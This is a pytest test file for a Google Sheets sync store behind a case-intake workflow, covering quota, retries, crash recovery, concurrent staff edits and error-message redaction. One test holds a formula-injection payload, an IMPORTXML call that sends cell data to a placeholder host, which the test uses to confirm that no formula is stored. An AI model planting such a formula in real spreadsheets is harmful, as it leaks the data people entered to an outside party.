"""GoogleStore over the in-process API double: request counts, unformatted values, no formulas,
staff edits between the read and the write, crashes, retries."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
import requests

from config.settings import Settings
from googledouble import GoogleDouble, SimulatedCrash
from googledouble.a1 import cell_name
from rules.errors import InputError, StructureError, TransientError
from sync.commands import demo
from sync.commands.demo_walk import FORWARD
from sync.commands.selftest.office import GoogleBackend, after_first, response_row
from sync.cycle.context import Context
from sync.cycle.run import run_cycle
from sync.cycle.tabs import I
from sync.stores.google_retry import RetryPolicy, is_retryable
from sync.stores.google_store import GoogleStore
from sync.stores.refusals import RequestRefused
from tests.conftest import NOW
from tests.test_workflow_cycle import act

GET = "sheets.spreadsheets.get"
BATCH = "sheets.spreadsheets.batchUpdate"
RESPONSES = "Respons Formulir 1"


@pytest.fixture
def ctx() -> Context:
    return Context.from_settings(Settings())


@pytest.fixture
def google(tmp_path: Path) -> GoogleBackend:
    return GoogleBackend(tmp_path)


def run(backend: GoogleBackend, ctx: Context, hours: int = 0) -> Any:
    return run_cycle(backend.store(), ctx, NOW + timedelta(hours=hours))


def state(backend: GoogleBackend) -> dict[str, Any]:
    """Every tab's rows, as sets keyed by content: row order (which staff may change) aside."""
    out: dict[str, Any] = {}
    for title in backend.tabs():
        rows = backend.tab(title)
        data = sorted(repr(r) for r in rows[1:] if any(v is not None for v in r))
        out[title] = (tuple(rows[0]) if rows else (), data)
    return out


def cases_with_decision(backend: GoogleBackend, ctx: Context, count: int) -> list[str]:
    rows = backend.tab(ctx.tabs.intake.name)
    column = rows[0].index(I.ID)
    ids = [str(r[column]) for r in rows[1:] if column < len(r) and str(r[column] or "").startswith("SAPA-")]
    for case in ids[:count]:
        act(backend, Settings(), case, FORWARD)
    return ids[:count]


# --- quota ----------------------------------------------------------------------------


def test_idle_cycle_costs_two_small_requests_and_busy_cycle_a_read_and_a_write(google: GoogleBackend,
                                                                              ctx: Context) -> None:
    google.create(demo.sample_rows(60), Settings())
    store = google.store()  # one store across cycles, as `run` keeps it
    google.double.reset_counts()
    result = run_cycle(store, ctx, NOW)
    assert result.count("case_created") >= 50
    # a store's first read asks for the grid sizes first (sync/stores/google_read.py): one cheap get more
    assert dict(google.double.counts) == {GET: 2, BATCH: 1}
    assert "includeGridData" not in google.double.log[0].url

    google.double.reset_counts()
    assert not run_cycle(store, ctx, NOW).plan
    assert dict(google.double.counts) == {GET: 1}  # after a write: a full read
    google.double.reset_counts()
    assert not run_cycle(store, ctx, NOW).plan
    assert dict(google.double.counts) == {GET: 2}  # nothing changed: two small requests say so
    assert all("ranges=" in e.url or "includeGridData" not in e.url for e in google.double.log)

    # staff decisions and new form responses together: the two small requests, then one read and one write
    cases_with_decision(google, ctx, 5)
    for i in range(3):
        google.double.form_submit(google.spreadsheet_id, ["" for _ in range(3)] + [f"Pelapor {i}"], title=RESPONSES)
    google.double.reset_counts()
    result = run_cycle(store, ctx, NOW + timedelta(hours=1))
    assert result.count("transition") == 5
    assert dict(google.double.counts) == {GET: 3, BATCH: 1}


def test_the_read_asks_only_for_what_it_needs(google: GoogleBackend, ctx: Context) -> None:
    google.create([response_row()], Settings())
    run(google, ctx)
    get = next(e for e in google.double.log if e.method_id == GET and "includeGridData" in e.url)
    assert "includeGridData=true" in get.url
    assert "effectiveValue" in get.url and "formattedValue" not in get.url
    assert "userEnteredValue" not in get.url


# --- values ---------------------------------------------------------------------------


def test_values_are_read_unformatted(google: GoogleBackend, ctx: Context) -> None:
    google.create([response_row(reporter_phone="0812-3456-7890", victim_age="07")], Settings())
    run(google, ctx)
    snapshot = google.store().read([t.name for t in ctx.tabs.all])
    record = snapshot.response_tabs[0].records()[0]
    questions = Settings().form.questions
    assert record[questions["reporter_phone"]] == "0812-3456-7890"  # leading zero kept
    assert record[questions["victim_age"]] == "07"
    assert isinstance(record[questions["timestamp"]], float)  # a date-time serial, whatever the locale
    register = snapshot.tabs[ctx.tabs.register.name].records()[0]
    assert register["ID Kasus"] == "SAPA-2026-0001"


def test_no_formula_anywhere_after_an_injection_attempt(google: GoogleBackend, ctx: Context) -> None:
    attack = '=IMPORTXML("http://contoh.invalid/?d="&A2, "//a")'
    google.create([response_row(story=attack, victim_name="+SUM(1)", reporter_name="@x")], Settings())
    run(google, ctx)
    cells = google.cells()
    assert not [c for c in cells if c[2]], "a formula was stored"
    assert [tab for tab, value, _ in cells if value == attack] == [RESPONSES, ctx.tabs.intake.name]
    requests_sent = [e.request for e in google.double.log if e.method_id == BATCH]
    assert "formulaValue" in repr(requests_sent), "the worker's change-detection block was not written"
    assert all(_only_fingerprints(body) for body in requests_sent)


def _only_fingerprints(body: Any) -> bool:
    """Every formula the worker sent is its own fingerprint of a tab (sync/stores/google_changes.py)."""
    from sync.stores import google_changes

    for request in (body or {}).get("requests") or []:
        cells = request.get("updateCells") or {}
        for row in cells.get("rows") or []:
            values = row.get("values") or []
            for index, value in enumerate(values):
                formula = (value.get("userEnteredValue") or {}).get("formulaValue")
                if formula is None:
                    continue
                title, columns = ((values[i].get("userEnteredValue") or {}).get("stringValue") for i in (0, 1))
                if index != 2 or not title or not str(columns).isdigit():
                    return False
                if formula != google_changes.formula(title, int(str(columns))):
                    return False
    return True


# --- staff editing between the read and the write --------------------------------------


def _reference(tmp_path: Path, ctx: Context, rows: list[dict[str, object]], decisions: int) -> dict[str, Any]:
    backend = GoogleBackend(tmp_path / "reference")
    backend.create(rows, Settings())
    run(backend, ctx)
    cases_with_decision(backend, ctx, decisions)
    run(backend, ctx, 1)
    return state(backend)


@pytest.mark.parametrize("edit", ["sort", "sort_responses", "insert", "delete_other"])
def test_staff_edits_between_read_and_write_never_land_in_another_cases_row(
    edit: str, tmp_path: Path, ctx: Context
) -> None:
    rows = demo.sample_rows(12)
    google = GoogleBackend(tmp_path / "g")
    google.create(rows, Settings())
    run(google, ctx)
    decided = cases_with_decision(google, ctx, 3)
    sid, intake = google.spreadsheet_id, ctx.tabs.intake.name
    double = google.double
    edits: dict[str, Callable[[GoogleDouble], None]] = {
        "sort": lambda d: d.staff_sort(sid, intake, 0, descending=True),
        "sort_responses": lambda d: d.staff_sort(sid, RESPONSES, 1, descending=True),
        "insert": lambda d: d.staff_insert_rows(sid, intake, 2, 2),
        "delete_other": lambda d: d.staff_delete_rows(sid, intake, 10),
    }
    deleted = None
    if edit == "delete_other":
        deleted = str(google.tab(intake)[9][0])
        assert deleted not in decided
    double.on_request(after_first(BATCH, edits[edit]))
    try:
        run(google, ctx, 1)
        failed = False
    except TransientError:
        failed = True
    double.clear_hooks()
    before_retry = state(google)
    run(google, ctx, 1)  # the next cycle completes whatever happened
    final = state(google)
    reference = _reference(tmp_path, ctx, rows, 3)
    log = ctx.tabs.log.name
    final_log = final[log]
    if edit == "delete_other":  # the deleted case row came back (and that is logged)
        assert set(reference[log][1]) <= set(final_log[1])
        final.pop(log), reference.pop(log)
    assert final == reference  # every row holds its own case's values, whatever the row order
    assert failed == (edit in ("sort", "insert", "delete_other")), "a moved row must refuse the write"
    if failed:  # the refused write left nothing half-applied: the decisions were not yet applied
        assert before_retry[log][1] != final_log[1]


def test_a_moved_row_fails_the_whole_write_cleanly(google: GoogleBackend, ctx: Context) -> None:
    google.create(demo.sample_rows(12), Settings())
    run(google, ctx)
    cases_with_decision(google, ctx, 2)
    sid, intake = google.spreadsheet_id, ctx.tabs.intake.name
    google.double.on_request(after_first(BATCH, lambda d: d.staff_sort(sid, intake, 0, descending=True)))
    before = state(google)  # row order aside, so staff's sort does not count
    with pytest.raises(TransientError, match="nothing of it was applied"):
        run_cycle(google.store(), ctx, NOW + timedelta(hours=1))
    google.double.clear_hooks()
    assert state(google) == before
    replies = [e for e in google.double.log if e.method_id == BATCH]
    assert replies[-1].status == 400


def test_a_refused_write_is_reported_without_the_value_google_quotes_back(
    google: GoogleBackend, ctx: Context, caplog: pytest.LogCaptureFixture
) -> None:
    """Google's "Invalid value at '…', "<value>"" echoes what was sent: a reporter's answer stays out of the log."""
    from googledouble import sheets_batch
    from googledouble.errors import invalid_value

    story = "Ani dipukul ayah tirinya di Jl. Merdeka 12"
    google.create([response_row(story=story)], Settings())

    def refuse(ctx_: Any, requests: Any) -> Any:
        raise invalid_value("requests[3].update_cells.rows[0].values[5].user_entered_value", "TYPE_STRING", story)

    with mock.patch.object(sheets_batch, "apply_requests", refuse), pytest.raises(RequestRefused) as raised:
        run(google, ctx)
    answer = google.double.log[-1]
    assert answer.status == 400 and story in json.dumps(answer.response, ensure_ascii=False)  # Google did echo it
    message = str(raised.value)
    assert "Invalid value at 'requests[3]" in message and "<value left out>" in message
    assert story not in message and "Ani" not in message and story not in caplog.text


@pytest.mark.parametrize(("message", "kept"), [
    ("Invalid value at 'requests[0].update_cells.rows[0].values[1].user_entered_value.string_value' "
     "(TYPE_STRING), \"Budi Santoso 0812\"", "Invalid value at 'requests[0].update_cells"),
    ("Invalid value at 'data.values[0]' (type.googleapis.com/google.protobuf.ListValue), 6281234567890",
     "Invalid value at 'data.values[0]'"),
    ("Invalid value at 'x', Budi Santoso", "Invalid value at 'x'"),
    ('Invalid JSON payload received. Unexpected token.\nSantoso", "x": "Budi Santoso\n^', "Invalid JSON payload"),
    ('Unknown name "Budi Santoso" at \'requests[0]\': Cannot find field.', "Cannot find field"),
    ('a \"quoted \\"Budi Santoso\\" inside\" b', "a "),
    ("Unable to parse range: 'Admin - Penerimaan'!A1:B2", "Unable to parse range: 'Admin - Penerimaan'!A1:B2"),
    ("Invalid requests[13].createDeveloperMetadata: Developer metadata with ID 123 already exists.",
     "Developer metadata with ID 123 already exists."),
])
def test_error_messages_keep_what_went_wrong_but_no_value_google_echoes(message: str, kept: str) -> None:
    from sync.stores.google_retry import error_message

    response = requests.Response()
    response._content = json.dumps({"error": {"code": 400, "message": message}}).encode()
    shown = error_message(requests.HTTPError(response=response))
    assert kept in shown
    assert "Budi" not in shown and "Santoso" not in shown and "6281234567890" not in shown


# --- crashes --------------------------------------------------------------------------


@pytest.mark.parametrize(("k", "applied"), [(1, False), (2, False), (2, True), (3, False), (4, True)])
def test_a_crash_after_any_request_then_rerunning_ends_as_without_faults(
    k: int, applied: bool, tmp_path: Path, ctx: Context
) -> None:
    rows = demo.sample_rows(15)
    google = GoogleBackend(tmp_path / "g")
    google.create(rows, Settings())
    run(google, ctx)
    cases_with_decision(google, ctx, 2)
    google.double.crash_after(k, applied=applied)
    for _ in range(3):
        with contextlib.suppress(SimulatedCrash):
            run(google, ctx, 1)
    google.double.clear_faults()
    run(google, ctx, 1)
    assert state(google) == _reference(tmp_path, ctx, rows, 2)


def test_a_resent_write_whose_answer_was_lost_is_refused_not_applied_twice(
    google: GoogleBackend, ctx: Context, tmp_path: Path
) -> None:
    rows = demo.sample_rows(10)
    google.create(rows, Settings())
    google.double.timeout_next(BATCH, applied=True)  # applied, then the answer is lost; the retry is refused
    with pytest.raises(TransientError):
        run(google, ctx)
    run(google, ctx)
    reference = GoogleBackend(tmp_path / "reference")
    reference.create(rows, Settings())
    run(reference, ctx)
    assert state(google) == state(reference)


# --- retries --------------------------------------------------------------------------


@pytest.mark.parametrize("fault", ["429", "500", "503", "403-rate", "timeout"])
def test_retryable_failures_are_retried_with_backoff(google: GoogleBackend, ctx: Context, fault: str) -> None:
    google.create([response_row()], Settings())
    double = google.double
    for method in (GET, BATCH):
        if fault == "timeout":
            double.timeout_next(method)
        elif fault == "403-rate":
            double.fail_next(method, status=403)
        else:
            double.fail_next(method, status=int(fault))
    policy = RetryPolicy(sleep=lambda _: None, random=lambda: 0.5)
    store = GoogleStore(google.client, google.spreadsheet_id, retry=policy)
    run_cycle(store, ctx, NOW)
    assert len(policy.slept) == 2 and all(0 <= s <= policy.cap for s in policy.slept)
    assert double.counts[GET] == 3 and double.counts[BATCH] == 2  # the sizes (failed once), the read


def test_retries_stop_at_the_cap_with_a_transient_error(google: GoogleBackend, ctx: Context) -> None:
    google.create([response_row()], Settings())
    google.double.fail_next(GET, status=429, times=100)
    policy = RetryPolicy(attempts=4, sleep=lambda _: None)
    with pytest.raises(TransientError, match="after 4 attempts"):
        run_cycle(GoogleStore(google.client, google.spreadsheet_id, retry=policy), ctx, NOW)
    assert google.double.counts[GET] == 4


def test_backoff_is_exponential_with_full_jitter_and_a_time_cap() -> None:
    slept: list[float] = []
    clock = [0.0]

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        clock[0] += seconds

    def failing() -> None:
        raise requests.exceptions.ReadTimeout("slow")

    policy = RetryPolicy(attempts=50, base=1.0, cap=8.0, total=30.0, sleep=sleep, random=lambda: 1.0,
                         clock=lambda: clock[0])
    with pytest.raises(TransientError):
        policy.run("x", failing)
    assert slept[:5] == [1.0, 2.0, 4.0, 8.0, 8.0]
    assert sum(slept) <= 30.0


def test_every_request_has_a_timeout(google: GoogleBackend) -> None:
    GoogleStore(google.client, "x")
    assert google.client.http_client.timeout is not None


def test_a_bad_request_is_not_retried() -> None:
    class Response:
        status_code = 400
        text = '{"error": {"code": 400, "message": "bad", "status": "INVALID_ARGUMENT"}}'

    class Err(Exception):
        response = Response()

    assert not is_retryable(Err())


# --- errors ---------------------------------------------------------------------------


def test_no_access_says_to_share_the_spreadsheet(google: GoogleBackend, ctx: Context) -> None:
    google.create([response_row()], Settings())
    google.double.deny_access(google.spreadsheet_id)
    with pytest.raises(InputError, match=r"Share the spreadsheet with .* as Editor") as err:
        run(google, ctx)
    assert "fake" not in str(err.value)  # never the token


def test_a_missing_responses_tab_is_a_structure_error(google: GoogleBackend, ctx: Context) -> None:
    google.create([response_row()], Settings(), tab="Sheet1")
    with pytest.raises(StructureError, match="form responses tab"):
        run(google, ctx)


def test_new_tabs_have_a_frozen_header_and_dropdowns(google: GoogleBackend, ctx: Context) -> None:
    google.create([response_row()], Settings())
    run(google, ctx)
    batch = next(e.request for e in google.double.log if e.method_id == BATCH)
    adds = [r["addSheet"] for r in batch["requests"] if "addSheet" in r]
    assert adds and all(a["properties"]["gridProperties"]["frozenRowCount"] == 1 for a in adds)
    intake = ctx.tabs.intake.name
    headers = google.tab(intake)[0]
    cell = google.double.cell(google.spreadsheet_id, intake, cell_name(1, headers.index(I.DECISION)))
    assert cell.data_validation is not None


def _submit(backend: GoogleBackend, count: int) -> None:
    from datetime import datetime

    from rules.complaint import FIELDS

    for i in range(count):
        answers = response_row(victim_name=f"Korban Baru {i}", story=f"Cerita baru {i}", kelurahan="Pasiran")
        values = [answers.get(f) for f in list(FIELDS)[1:]]
        backend.double.form_submit(backend.spreadsheet_id, values, title=RESPONSES,
                                   timestamp=datetime(2026, 11, 28, 9, 40 + i))


@pytest.mark.parametrize("first_cycle", [
    False,
    pytest.param(True, marks=pytest.mark.xfail(strict=True, reason=(
        "known gap: before the first write no response row carries metadata and the tab has no sentinel, "
        "so a sort of the responses tab between the very first read and write is not detected"))),
])
def test_sorting_the_responses_tab_during_intake_never_swaps_ids(
    first_cycle: bool, tmp_path: Path, ctx: Context
) -> None:
    def make(folder: str, sort: bool) -> GoogleBackend:
        backend = GoogleBackend(tmp_path / folder)
        backend.create(demo.sample_rows(12), Settings())
        sid = backend.spreadsheet_id
        if not first_cycle:
            run(backend, ctx)
            _submit(backend, 4)
        if sort:
            backend.double.on_request(after_first(BATCH, lambda d: d.staff_sort(sid, RESPONSES, 2, True)))
        with contextlib.suppress(TransientError):
            run(backend, ctx, 1)
        backend.double.clear_hooks()
        run(backend, ctx, 1)
        return backend

    sorted_, reference = make("sorted", True), make("reference", False)
    assert state(sorted_) == state(reference)  # each response keeps the ID its answers were given
